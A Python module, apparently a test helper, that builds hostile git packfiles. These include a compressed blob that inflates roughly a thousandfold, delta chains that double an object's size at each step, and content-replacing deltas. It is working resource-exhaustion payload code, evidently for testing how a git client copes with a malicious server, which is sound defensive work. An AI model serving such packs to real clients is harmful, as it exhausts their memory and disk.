"""Packs that are small and lead to much: what a hostile git server may send.

pack = write_pack([plain(BLOB, b"x"), zeros(1024), *chain(b"x", [twice(1), twice(2)])])
"""

import hashlib
import struct
import zlib
from collections.abc import Iterable, Iterator

COMMIT, TREE, BLOB, _OFS_DELTA = 1, 2, 3, 6
_ADLER = 65521
_MIB = 1 << 20


def write_pack(objects: Iterable[bytes]) -> bytes:
    """A pack with these objects. Source: gitformat-pack(5)"""
    entries = list(objects)
    body = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return body + hashlib.sha1(body).digest()  # noqa: S324 - git's own


def object_name(kind: bytes, data: bytes) -> bytes:
    """The SHA-1 that is an object's name."""
    return hashlib.sha1(b"%s %d\0%s" % (kind, len(data), data)).digest()  # noqa: S324 - git's own


def plain(kind: int, data: bytes) -> bytes:
    """An object as it is."""
    return _head(kind, len(data)) + zlib.compress(data)


def zeros(size: int) -> bytes:
    """A blob of so many MiB of zeros, in a thousandth of that."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(_MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = struct.pack(">HH", (size * _MIB) % _ADLER, 1)
    return _head(BLOB, size * _MIB) + b"\x78\xda" + block * size + packer.flush() + end


def chain(base: bytes, deltas: Iterable[bytes]) -> Iterator[bytes]:
    """A blob, and deltas, each against the object before."""
    before = plain(BLOB, base)
    yield before
    for delta in deltas:
        before = _head(_OFS_DELTA, len(delta)) + _offset(len(before)) + zlib.compress(delta)
        yield before


def twice(size: int) -> bytes:
    """A delta that makes of an object of this size one with its content twice."""
    copies = [b"\xbf" + struct.pack("<IH", at, min(0xFFFF, size - at)) for at in range(0, size, 0xFFFF)]
    return _varint(size) + _varint(2 * size) + b"".join(copies) * 2


def instead(size: int, data: bytes) -> bytes:
    """A delta that replaces an object of this size by up to 127 bytes."""
    return _varint(size) + _varint(len(data)) + bytes([len(data)]) + data


def _head(kind: int, size: int) -> bytes:
    first, size = kind << 4 | size & 15, size >> 4
    return bytes([first | 0x80]) + _varint(size) if size else bytes([first])


def _varint(number: int) -> bytes:
    parts = bytearray()
    while number > 0x7F:
        parts.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes(parts) + bytes([number])


def _offset(distance: int) -> bytes:
    parts = [distance & 0x7F]
    while distance := distance >> 7:
        distance -= 1
        parts.insert(0, distance & 0x7F | 0x80)
    return bytes(parts)
